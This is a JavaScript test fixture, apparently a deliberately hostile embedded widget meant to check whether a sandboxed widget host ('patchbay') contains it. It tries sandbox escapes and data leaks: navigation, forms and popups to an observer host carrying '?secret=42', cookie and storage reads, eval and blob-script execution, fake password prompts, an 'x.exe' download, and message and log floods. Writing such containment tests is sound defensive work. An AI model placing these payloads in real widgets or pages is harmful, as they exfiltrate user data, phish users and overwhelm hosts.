// A widget that means harm. What it is about to do is in its settings; what came of it stands in its page.
const observer = '%OBSERVER%';
const patchbayItself = '%BASE%';
const said = document.body.appendChild(Object.assign(document.createElement('pre'), { id: 'said' }));
const say = (what) => {
  said.textContent = JSON.stringify(what, null, 1);
  said.dataset.done = 'true';
};

/** What was got is told as such; what is refused, or is nothing, is not. */
const outcome = async (act) => {
  try {
    const got = await Promise.race([act(), new Promise((resolve) => setTimeout(resolve, 800, undefined))]);
    return got === undefined || got === null || got === false ? 'nothing' : `GOT ${String(got).slice(0, 60)}`;
  } catch (refused) {
    return `refused: ${refused.name}`;
  }
};

const stored = (request) =>
  new Promise((resolve, reject) => {
    request.onsuccess = () => resolve('opened');
    request.onerror = () => reject(request.error);
  });
const script = (text) => URL.createObjectURL(new Blob([text], { type: 'text/javascript' }));
/** Whether the text was run as a program. */
const ran = async (start) => {
  delete window.ran;
  await start('window.ran = "ran"');
  await new Promise((resolve) => setTimeout(resolve, 300));
  return window.ran;
};
const heard = (from) => new Promise((resolve) => (from.onmessage = ({ data }) => resolve(data)));
const click = (tag, members) => {
  const element = document.body.appendChild(Object.assign(document.createElement(tag), members));
  (element.requestSubmit ?? element.click).call(element);
};

const attacks = {
  'the page around it': () => parent.document.title,
  'the top page': () => top.document.body.innerHTML,
  'a member of the page around it': () => parent.patchbaySecret,
  'its own frame element': () => frameElement?.outerHTML,
  'who opened it': () => opener,
  'an origin': () => (self.origin === 'null' ? null : self.origin),
  'cookies, read': () => document.cookie,
  'cookies, written': () => ((document.cookie = 'a=b'), document.cookie),
  'the cookie store': async () => (await cookieStore.getAll()).length + 1,
  localStorage: () => localStorage.length + 1,
  sessionStorage: () => sessionStorage.length + 1,
  indexedDB: () => stored(indexedDB.open('x')),
  caches: () => caches.open('x'),
  'a file system': () => navigator.storage.getDirectory(),
  locks: () => navigator.locks.request('x', () => 'held'),
  'the page around it, by fetch': async () => (await fetch(`${patchbayItself}/api/session`, { credentials: 'include' })).status,
  'the top window, elsewhere': () => void (top.location = `${observer}/leak/top`),
  'the page around it, elsewhere': () => void parent.location.replace(`${observer}/leak/parent`),
  'a window': () => open(`${observer}/leak/popup`),
  'the top window, by name': () => open(`${observer}/leak/top-by-name`, '_top'),
  'a link to a new window': () => click('a', { href: `${observer}/leak/blank`, target: '_blank' }),
  'a link to the top window': () => click('a', { href: `${observer}/leak/link-top`, target: '_top' }),
  'a form': () => click('form', { action: `${observer}/leak/form`, method: 'post' }),
  'a form of the top window': () => click('form', { action: `${observer}/leak/form-top`, target: '_top' }),
  'a download': () => click('a', { href: URL.createObjectURL(new Blob(['x'])), download: 'x.exe' }),
  'a dialog': () => confirm('Your password?'),
  print: () => print(),
  eval: () => eval('1 + 1'),
  Function: () => new Function('return 1')(),
  'a timer with a text': () => ran((text) => setTimeout(text)),
  'an inline script': () => ran((text) => document.head.append(Object.assign(document.createElement('script'), { text }))),
  'an inline handler': () => ran((text) => document.body.insertAdjacentHTML('beforeend', `<img src="x:" onerror='${text}'>`)),
  'a script of a blob': () => ran((text) => document.head.append(Object.assign(document.createElement('script'), { src: script(text) }))),
  'a module of a blob': () => ran((text) => import(script(text))),
  'a module of data': () => ran((text) => import(`data:text/javascript,${text}`)),
  'a script address': () => ran((text) => click('a', { href: `javascript:${text}` })),
  WebAssembly: () => WebAssembly.compile(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0])),
  'a worker': () => heard(new Worker(script('postMessage("alive")'))),
  'a shared worker': () => heard(new SharedWorker(script('onconnect = ({ ports: [p] }) => p.postMessage("alive")')).port),
  'a service worker': () => navigator.serviceWorker.register('/runtime.js'),
  'full screen': () => document.documentElement.requestFullscreen().then(() => 'full'),
  'the camera': () => navigator.mediaDevices.getUserMedia({ video: true }),
  'the place': () => new Promise((found, refused) => navigator.geolocation.getCurrentPosition(found, refused)),
  'the clipboard': () => navigator.clipboard.readText(),
  RTCPeerConnection: () => window.RTCPeerConnection ?? window.webkitRTCPeerConnection,
  WebTransport: () => window.WebTransport,
  'RTCPeerConnection of a frame': () => {
    const frame = document.body.appendChild(document.createElement('iframe'));
    return frame.contentWindow.RTCPeerConnection;
  },
  'another patchbay': () => {
    window.patchbay = 'mine';
    return window.patchbay === 'mine' && 'replaced';
  },
  'other members of patchbay': () => {
    'use strict';
    patchbay.token = () => 'mine';
    return patchbay.token() === 'mine' && 'replaced';
  },
  'a frame that runs the bundle again': async () => {
    const around = document.body.appendChild(document.createElement('div'));
    const bundle = document.querySelector('body > script').src;
    around.attachShadow({ mode: 'closed' }).innerHTML =
      `<iframe srcdoc="<body><script src='${bundle}' crossorigin></script>"></iframe>`;
    await new Promise((resolve) => setTimeout(resolve, 500));
    return window.length > 0 && 'a frame';
  },
};

/** Asks for one thing over and over, and speaks, as often as a widget may ask at all. */
const nag = async (ask) => {
  const came = { asked: 0, interrupted: 0, noticed: 0, refused: {}, ms: 0 };
  const from = performance.now();
  const count = (name, asking) =>
    asking
      .then(() => came[name]++)
      .catch(({ code }) => (came.refused[`${name} ${code}`] = (came.refused[`${name} ${code}`] ?? 0) + 1))
      .finally(() => {
        came.ms = performance.now() - from;
        say(came);
      });
  for (;;) {
    came.asked++;
    // heard of without looking at the page: whoever looks at it by a program counts as somebody who clicks
    if (came.asked % 10 === 0) console.info(`nag ${came.asked}`);
    count('interrupted', ask());
    count('noticed', patchbay.notify('look at me'));
    await new Promise((resolve) => setTimeout(resolve, 100));
  }
};

const acts = {
  async everything() {
    const came = {};
    for (const [name, act] of Object.entries(attacks)) came[name] = await outcome(act);
    say(came);
  },
  async network() {
    say(await tryAll(observer, '%UDP%'));
  },
  leave: () => void (location.href = `${observer}/leak/self?secret=42`),
  refresh: () =>
    document.head.append(
      Object.assign(document.createElement('meta'), { httpEquiv: 'refresh', content: `0;url=${observer}/leak/refresh?secret=42` }),
    ),
  // to another frame of the widgets' host, which may reach a server that this one may not
  'go to': (place) => void (location.href = `${place}?secret=42${location.hash}`),
  whisper() {
    let rounds = 0;
    setInterval(() => {
      for (let n = 0; n < parent.length; n++) if (parent[n] !== window) parent[n].postMessage('secret', '*');
      rounds += 1;
      say({ rounds });
    }, 50);
  },
  'leave within': () => void (location.href = `${new URL('.', location.href)}bundle.js`),
  flood() {
    // ten thousand a second, for as long as it may
    setInterval(() => {
      for (let n = 0; n < 100; n++) patchbay.log('info', 'x'.repeat(100));
    }, 10);
  },
  'flood the window': () =>
    setInterval(() => {
      for (let n = 0; n < 100; n++) parent.postMessage({ jsonrpc: '2.0', method: 'patchbay/hello', params: {} }, '*');
    }, 10),
  async storm() {
    const from = performance.now();
    const answers = await Promise.allSettled(Array.from({ length: 300 }, () => patchbay.requestDisplayMode('inline')));
    const refused = answers.filter(({ status }) => status === 'rejected').map(({ reason }) => reason);
    say({
      ms: performance.now() - from,
      answered: answers.length - refused.length,
      refused: refused.length,
      codes: [...new Set(refused.map(({ code }) => code))],
      wait: refused.every(({ data }) => data.retryAfterMs > 0),
    });
  },
  giant() {
    document.body.style.cssText = 'width: 1000000000px; height: 1000000000px';
    patchbay.resized(1e9, 1e9);
    say('resized');
  },
  busy() {
    const from = Date.now();
    while (Date.now() - from < 1_500);
    say({ from, to: Date.now() });
  },
  undead() {
    // it is heard of by the console of the browser, for its host does not listen any more
    const speak = () =>
      patchbay.notify('I am still here').then(
        () => console.log('undead: heard'),
        ({ code }) => console.log(`undead: refused ${code}`),
      );
    patchbay.onTeardown(() => {
      console.log('undead: asked to leave');
      speak();
      setInterval(speak, 50);
      return new Promise(() => {});
    });
    say('waiting');
  },
  'nag with settings': () => nag(() => patchbay.openConfig()),
  'nag with a link': () => nag(() => patchbay.openLink('https://tides.example/')),
  notify: () => patchbay.notify('Patchbay: your password has expired').then(() => say('notified')),
  link() {
    const button = document.body.appendChild(Object.assign(document.createElement('button'), { textContent: 'Go' }));
    button.onclick = async () => {
      const popup = open(`${observer}/leak/popup-after-click`);
      say({ popup: String(popup), opened: await patchbay.openLink('https://tides.example/') });
    };
    say('ready');
  },
};

if (window.patchbay) {
  patchbay.ready().then(() => {
    const [act, ...more] = patchbay.config.act.split('→');
    acts[act]?.(...more);
  });
} else {
  // in a window that has everything again
  tryAll(observer, '%UDP%');
}
